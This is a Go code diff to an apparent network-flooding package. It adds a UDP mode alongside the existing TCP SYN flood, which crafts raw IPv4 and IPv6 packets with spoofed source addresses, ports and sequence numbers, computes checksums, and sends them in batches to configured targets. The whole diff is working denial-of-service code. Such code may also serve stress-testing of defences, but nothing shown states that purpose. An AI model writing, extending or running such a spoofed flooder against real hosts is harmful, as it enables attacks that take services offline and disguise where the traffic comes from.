@@ -17,6 +17,7 @@ import (
 // Config says whom to flood, and for how long.
 type Config struct {
 	Targets  []netip.AddrPort // taken in turns, of either family
+	UDP      bool             // datagrams instead of SYNs
 	Duration time.Duration    // at most maxDuration
 }
 
@@ -44,7 +45,7 @@ func Run(ctx context.Context, config Config) (Result, error) {
 	defer runtime.UnlockOSThread()
 	batches := make([]*batch, 0, len(config.Targets))
 	for _, target := range config.Targets {
-		b, err := newBatch(target)
+		b, err := newBatch(target, config.UDP)
 		if err != nil {
 			return Result{}, fmt.Errorf("flood %s: %w", target, err)
 		}
@@ -90,7 +91,7 @@ type message struct {
 	_      [4]byte
 }
 
-func newBatch(target netip.AddrPort) (*batch, error) {
+func newBatch(target netip.AddrPort, udp bool) (*batch, error) {
 	b := &batch{target: target, random: rand.New(rand.NewPCG(1, uint64(target.Port())))}
 	family := unix.AF_INET
 	if target.Addr().Is6() {
@@ -111,7 +112,7 @@ func newBatch(target netip.AddrPort) (*batch, error) {
 		b.address4.Addr = target.Addr().As4()
 	}
 	for i := range b.packets {
-		b.packets[i] = template(target)
+		b.packets[i] = template(target, udp)
 		b.vectors[i].Base = &b.packets[i][0]
 		b.vectors[i].SetLen(len(b.packets[i]))
 		h := &b.messages[i].header
@@ -141,58 +142,69 @@ func (b *batch) send() (int, error) {
 
 const (
 	header4, header6 = 20, 40
-	tcpHeader        = 24 // with the MSS
+	transport        = 24 // bytes: a TCP header with the MSS, or a UDP header with 16 bytes
 	flagSYN          = 0x02
 )
 
-// template is a SYN to the target; spoof fills in the rest.
-func template(target netip.AddrPort) []byte {
-	length := header4
+// template is a packet to the target; spoof fills in the rest.
+func template(target netip.AddrPort, udp bool) []byte {
+	length, protocol := header4, byte(unix.IPPROTO_TCP)
 	if target.Addr().Is6() {
 		length = header6
 	}
-	p := make([]byte, length+tcpHeader)
+	if udp {
+		protocol = unix.IPPROTO_UDP
+	}
+	p := make([]byte, length+transport)
 	if target.Addr().Is6() {
-		p[0], p[6], p[7] = 0x60, unix.IPPROTO_TCP, 64
-		binary.BigEndian.PutUint16(p[4:], tcpHeader)
+		p[0], p[6], p[7] = 0x60, protocol, 64
+		binary.BigEndian.PutUint16(p[4:], transport)
 		source := Sources6.Addr().As16()
 		copy(p[8:], source[:])
 		copy(p[24:], target.Addr().AsSlice())
 	} else {
-		p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP
+		p[0], p[8], p[9] = 0x45, 64, protocol
 		binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
 		binary.BigEndian.PutUint16(p[6:], 0x4000) // do not fragment
 		source := Sources4.Addr().As4()
 		copy(p[12:], source[:])
 		copy(p[16:], target.Addr().AsSlice())
 	}
-	tcp := p[length:]
-	binary.BigEndian.PutUint16(tcp[2:], target.Port())
-	tcp[12], tcp[13] = tcpHeader/4<<4, flagSYN
-	binary.BigEndian.PutUint16(tcp[14:], 65535)
-	copy(tcp[20:], []byte{2, 4, 1460 >> 8, 1460 & 0xff})
+	l4 := p[length:]
+	binary.BigEndian.PutUint16(l4[2:], target.Port())
+	if udp {
+		binary.BigEndian.PutUint16(l4[4:], transport)
+		return p
+	}
+	l4[12], l4[13] = transport/4<<4, flagSYN
+	binary.BigEndian.PutUint16(l4[14:], 65535)
+	copy(l4[20:], []byte{2, 4, 1460 >> 8, 1460 & 0xff})
 	return p
 }
 
-// spoof draws source address, port and sequence number. The kernel writes the checksum of an IPv4
-// header itself.
+// spoof draws the source's address and port, and a sequence number. The kernel writes the checksum of
+// an IPv4 header itself.
 func spoof(p []byte, random *rand.Rand) {
-	tcp, addresses := p[header4:], p[12:20]
+	l4, addresses, protocol := p[header4:], p[12:20], p[9]
 	if p[0]>>4 == 6 {
-		tcp, addresses = p[header6:], p[8:40]
+		l4, addresses, protocol = p[header6:], p[8:40], p[6]
 		binary.BigEndian.PutUint64(p[16:], random.Uint64())
 	} else {
 		p[13] = Sources4.Addr().As4()[1] | byte(random.Uint32()&1)
 		binary.BigEndian.PutUint16(p[14:], uint16(random.Uint32()))
 	}
-	binary.BigEndian.PutUint16(tcp, uint16(1024+random.Uint32N(64000)))
-	binary.BigEndian.PutUint32(tcp[4:], random.Uint32())
-	binary.BigEndian.PutUint16(tcp[16:], 0)
-	sum := add(add(unix.IPPROTO_TCP+tcpHeader, addresses), tcp)
+	binary.BigEndian.PutUint16(l4, uint16(1024+random.Uint32N(64000)))
+	checksum := l4[6:8]
+	if protocol == unix.IPPROTO_TCP {
+		binary.BigEndian.PutUint32(l4[4:], random.Uint32())
+		checksum = l4[16:18]
+	}
+	binary.BigEndian.PutUint16(checksum, 0)
+	sum := add(add(uint32(protocol)+transport, addresses), l4)
 	for sum > 0xffff {
 		sum = sum>>16 + sum&0xffff
 	}
-	binary.BigEndian.PutUint16(tcp[16:], ^uint16(sum))
+	binary.BigEndian.PutUint16(checksum, ^uint16(sum))
 }
 
 func add(sum uint32, data []byte) uint32 {
